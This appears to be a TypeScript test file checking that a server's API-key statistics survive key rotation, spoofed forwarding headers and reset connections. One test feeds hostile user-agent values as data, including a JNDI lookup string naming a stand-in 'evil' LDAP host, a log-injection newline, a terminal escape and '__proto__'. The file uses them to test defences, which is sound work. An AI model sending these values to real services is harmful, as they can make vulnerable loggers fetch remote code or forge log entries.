import { describe, expect, it } from 'vitest';
import { DAY_MS } from '../../src/core/clock.ts';
import { RawConnection, rawRequest } from './raw-http.ts';
import { type Header, JSON_TYPE, keyHeader, ServerForTests } from './server-for-tests.ts';

const http = new ServerForTests();

describe('statistics', () => {
  it('are kept apart for the old secret of a rotated key', async () => {
    const key = await http.createKey();
    await http.send({ headers: [keyHeader(key.plaintext)] });
    const newer = await http.rotate(key, DAY_MS);
    for (const plaintext of [key.plaintext, key.plaintext, newer]) {
      await http.send({ headers: [keyHeader(plaintext)] });
    }
    const stats = await http.server.keys.stats(key.id, DAY_MS);
    expect(stats.served).toBe(4);
    expect(stats.previousSecret).toMatchObject({ answered: 2, share: 2 / 3 });
  });

  it('say who used the key by the peer alone, whatever headers say, and keep strange agents as they are', async () => {
    const { id, plaintext } = await http.createKey();
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a look-up that some loggers would do
    const agents = ['%0a{"level":"info"}', '${jndi:ldap://evil}', '\x9b2J', 'a'.repeat(5000), '__proto__'];
    for (const agent of agents) {
      http.server.advance(1);
      const headers: Header[] = [
        keyHeader(plaintext),
        ['user-agent', agent],
        ['x-forwarded-for', '1.2.3.4'],
        ['forwarded', 'for=1.2.3.4'],
        ['x-real-ip', '1.2.3.4'],
      ];
      expect((await http.send({ headers })).status).toBe(200);
      const { lastUse } = (await http.server.keys.stats(id, DAY_MS)).currentSecret;
      expect(lastUse).toMatchObject({ ip: '127.0.0.1', agent: agent.slice(0, 200) });
    }
  });

  it('survive connections that are reset at any point of a request', async () => {
    const { id, plaintext } = await http.createKey();
    const body = `{"content":"${'x'.repeat(2000)}"}`;
    const request = rawRequest({
      method: 'POST',
      target: '/render/enhance',
      headers: [keyHeader(plaintext), JSON_TYPE],
      body,
    });
    for (let sent = 40; sent <= request.length; sent += 40) {
      const connection = await RawConnection.open(http.server.url);
      connection.send(request.slice(0, sent));
      if (sent % 80 === 0) await new Promise(setImmediate);
      connection.reset();
    }
    await http.enhance([keyHeader(plaintext)], { content: 'x' });
    const stats = await http.server.keys.stats(id, DAY_MS);
    expect(stats).toMatchObject({ serverErrors: 0, rateLimited: 0, refused: 0 });
    expect(stats.served).toBeGreaterThanOrEqual(1);
  });
});
